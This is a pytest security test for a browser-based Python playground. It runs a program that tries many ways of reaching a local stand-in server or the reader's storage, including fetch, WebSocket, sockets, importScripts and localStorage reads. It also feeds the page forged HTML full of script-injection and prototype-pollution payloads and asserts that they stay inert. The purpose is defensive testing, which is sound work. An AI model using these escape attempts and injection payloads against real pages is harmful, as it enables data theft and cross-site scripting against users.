"""A hostile program, as a link could bring it, reaches nothing and changes nothing outside its frame."""

import re
import threading
from http.server import BaseHTTPRequestHandler

import pytest

from tests.browser.conftest import QuietServer, listen
from tests.browser.playground_pages import RESULT, Playground, needed
from tools.site import playground

pytestmark = pytest.mark.skipif(bool(needed()), reason=needed())

# Each way out or to something of the reader's; `other` is a server that counts what reaches it.
WAYS = {
    "fetch": "js.fetch(other + '/fetch')",
    "fetch without an answer": "js.fetch(other + '/no-cors', to_js({'mode': 'no-cors'}, dict_converter=entries))",
    "fetch of this site": "js.fetch(here)",
    "XMLHttpRequest": "request(js.XMLHttpRequest.new())",
    "WebSocket": "js.WebSocket.new(other.replace('http', 'ws') + '/ws')",
    "EventSource": "js.EventSource.new(other + '/es')",
    "importScripts": "js.importScripts(other + '/scripts')",
    "import()": 'run_js("import(\'" + other + "/import\')")',
    "eval": "js.eval('1 + 1')",
    "Function": "js.Function.new('return 1')()",
    "Worker": "js.Worker.new(other + '/worker')",
    "WebTransport": "js.WebTransport.new(other.replace('http:', 'https:') + '/wt')",
    "localStorage": "js.localStorage.getItem('secret')",
    "indexedDB": "js.indexedDB.open('x').result",
    "caches": "js.caches.keys()",
    "cookieStore": "js.cookieStore.getAll()",
    "storage": "js.navigator.storage.getDirectory()",
    "document": "js.document.body",
    "parent": "js.parent.location.href",
    "urllib": "urllib.request.urlopen(other + '/urllib')",
    "socket": "socket.create_connection((other.split('/')[2].split(':')[0], int(other.split(':')[2])), 1)",
    "pyfetch": "pyfetch(other + '/pyfetch')",
}
ATTACK = """
import asyncio, socket, urllib.request
other, here = {other!r}, {here!r}
try:
    import js
    from pyodide.ffi import to_js
    from pyodide.code import run_js
    from pyodide.http import pyfetch
    entries = js.Object.fromEntries
except Exception as error:
    print("no js:", repr(error))

def request(one):
    one.open("GET", other + "/xhr", False)
    one.send(None)

async def main():
    for name, way in {ways!r}.items():
        try:
            found = eval(way)
            if hasattr(found, "then") or asyncio.iscoroutine(found):
                found = await asyncio.wait_for(found, 2)
            print(name, "->", "REACHED", repr(found)[:80])
        except BaseException as error:
            print(name, "->", type(error).__name__)
asyncio.get_event_loop().run_until_complete(main())
print("tried all")
"""
# Objects that are made without an error, and do nothing then: what counts is that the other server hears nothing.
SILENT = {"WebSocket", "EventSource", "Worker", "WebTransport", "socket"}
# A program that puts its own drawing in the place of the tracer's.
FORGED = """<section class="stepper" id="steps-program" onclick="globalThis.hit = 1" style="position:fixed;inset:0">
<p><b>Own</b> <small>1</small></p><ol><li id="steps-program-1" data-l=1 data-k="x"><code>x</code><p>told
<img src="{other}/img" onerror="globalThis.hit = 1"><a href="{other}/a">click</a><script>globalThis.hit = 1</script>
<style>body{{display:none}}</style><iframe src="{other}/frame"></iframe>
<form action="{other}/form"><button>go</button></form>
<meta http-equiv="refresh" content="0;url={other}/meta"><svg onload="globalThis.hit = 1"><text>svg</text></svg>
<link rel=stylesheet href="{other}/css"><base href="{other}/"><b id="__search" class="md-overlay">b</b></p></li></ol>
<script type="application/json">{data}</script></section><div id="after">after</div>"""
DATA = """{"database": "sqlite", "file": "program.py", "open": 0, "classes": {"A": "a"},
 "variables": [["<module>", "<img src=OTHER/svg onerror=globalThis.hit=1>"]],
 "tables": {"a\\"><img src=OTHER/table>": {"columns": ["id"], "key": 1, "widths": ["2\\"><img src=OTHER/width>"]}},
 "slots": {"of": {}, "sessions": 1, "count": 1, "waits": [0], "fails": [0]},
 "initial": {"names": {"<module>": {}}, "tables": {}}, "__proto__": {"hit": 1},
 "stops": [{"changes": {"objects": {"A#1": {"state": "\\"><img src=OTHER/state onerror=globalThis.hit=1>",
 "values": {"<b>": "<i>"}}}}, "crossed": {"add": ["<img src=OTHER/crossed>", 1]}}]}"""
FORGE = """
import runner
from sqlalchemy import create_engine
from sqlalchemy.orm import Session
runner.render_html = lambda *a: {html!r}
runner.render_text = lambda *a: "`````\\n[click]({other}/markdown)"
# --- story
session = Session(create_engine("sqlite://"))
session.connection()
"""


class Other(BaseHTTPRequestHandler):
    heard: list[str] = []

    def do_GET(self):
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *arguments):
        pass


@pytest.fixture
def other():
    """The address of another server; it fails the test if anything has reached it."""
    Other.heard = []
    connections = []

    class Server(QuietServer):
        def verify_request(self, request, client_address):
            connections.append(client_address)
            return True

    server = Server(("127.0.0.1", 0), Other)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
    assert (Other.heard, connections) == ([], [])


@pytest.fixture
def opened(chromium, address):
    """The page, with something in storage; with `bare=False` all of the worker's JavaScript is given to programs."""
    contexts = []

    def get(bare: bool = True) -> Playground:
        context = chromium.new_context(viewport={"width": 1280, "height": 720})
        contexts.append(context)
        page = listen(context.new_page())
        if not bare:
            given = (playground.FOLDER / "worker.js").read_text("utf-8").replace("jsglobals: {}", "jsglobals: self")
            assert "jsglobals: self" in given
            page.route("**/worker.js", lambda route: route.fulfill(body=given, content_type="text/javascript"))
        page.goto(f"{address}/play/")
        page.evaluate("localStorage.secret = 'secret'; document.cookie = 'c=1'")
        page.wait_for_selector(".playground .run:enabled")
        return Playground(page)

    yield get
    for context in contexts:
        context.close()


@pytest.mark.time_limit(180)
@pytest.mark.parametrize("bare", [True, False], ids=["as published", "with all of JavaScript"])
def test_no_way_leads_out(opened, other, address, bare):
    one = opened(bare)
    one.run(ATTACK.format(other=other, here=f"{address}/", ways=WAYS))
    said = one.text(".box pre")
    assert "tried all" in said, one.said()
    reached = {line.partition(" ->")[0] for line in said.splitlines() if "REACHED" in line}
    assert reached <= ({"socket"} if bare else SILENT), said


@pytest.mark.time_limit(120)
def test_a_forged_drawing_is_only_text(opened, other):
    one = opened()
    page = one.page
    before = page.evaluate("[location.href, document.body.children.length]")
    html = FORGED.format(other=other, data=DATA.replace("OTHER", other))
    one.run(FORGE.format(html=html, other=other))
    page.wait_for_timeout(1000)
    assert "told" in one.text(".stepper"), one.said()
    assert page.evaluate("[location.href, document.body.children.length]") == before
    assert page.evaluate("[globalThis.hit, ({}).hit, getComputedStyle(document.body).display]") == [None, None, "flex"]
    held = page.query_selector_all(
        f"{RESULT} :is(img, a:not(.bar a), style, iframe, form, meta, link, base, #after, #__search)"
    )
    assert [element.evaluate("one => one.outerHTML") for element in held] == []
    assert not page.query_selector(f"{RESULT} [onclick], {RESULT} [onerror], {RESULT} .md-overlay")
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.click(".playground .copy-markdown")
    page.wait_for_timeout(200)
    copied = page.evaluate("navigator.clipboard.readText()")
    assert re.search(r"\n(`{6,})text\n`{5}\n\[click\].*\n\1\n\n</details>", copied), "the forged text leaves its block"


def test_the_frame_is_silent_by_itself(chromium, address):
    page = chromium.new_page()
    page.goto(f"{address}/{playground.FRAME}")
    page.evaluate("addEventListener('message', ({ data }) => { if (data.kind !== 'start') globalThis.heard = data; })")
    page.evaluate("postMessage({ kind: 'start', packs: [] }, '*')")
    page.wait_for_timeout(500)
    assert page.evaluate("globalThis.heard") is None
    page.close()
